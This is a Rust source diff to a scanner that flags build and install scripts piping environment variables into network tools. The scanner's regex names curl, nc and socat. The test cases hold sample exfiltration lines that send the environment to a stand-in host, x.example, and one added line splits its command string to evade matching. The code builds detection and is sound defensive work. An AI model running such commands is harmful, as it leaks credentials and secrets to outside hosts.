@@ -247,7 +247,7 @@ fn environment_piped(code: &Code) -> Option<usize> {
     static TOOLS: OnceLock<Regex> = OnceLock::new();
     static PIPED: OnceLock<Regex> = OnceLock::new();
     let tools = TOOLS.get_or_init(|| build(r"\b(?:curl|wget|nc|ncat|netcat|socat)\b"));
-    if !tools.is_match(code.data) {
+    if !holds(code, tools) {
         return None;
     }
     let piped = PIPED.get_or_init(|| {
@@ -266,7 +266,7 @@ fn environment_piped(code: &Code) -> Option<usize> {
     let folded = code
         .folded()
         .iter()
-        .find(|f| piped.is_match(&f.text))
+        .find(|f| !is_comment_line(f.line) && piped.is_match(&f.text))
         .map(|f| f.n);
     written.into_iter().chain(folded).min()
 }
@@ -789,6 +789,7 @@ mod tests {
             ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -d \\\"$(env)\\\" https://x.example\")"),
             ("Makefile", "\t@env|nc x.example 4444"),
             ("install.sh", "env \\\n  | gzip | curl --data-binary @- https://x.example"),
+            ("lib/a.js", "execSync('en' + 'v | cu' + 'rl -d @- https://x.example');"),
         ] {
             assert_eq!(
                 first_spying_line(path, code.as_bytes()),
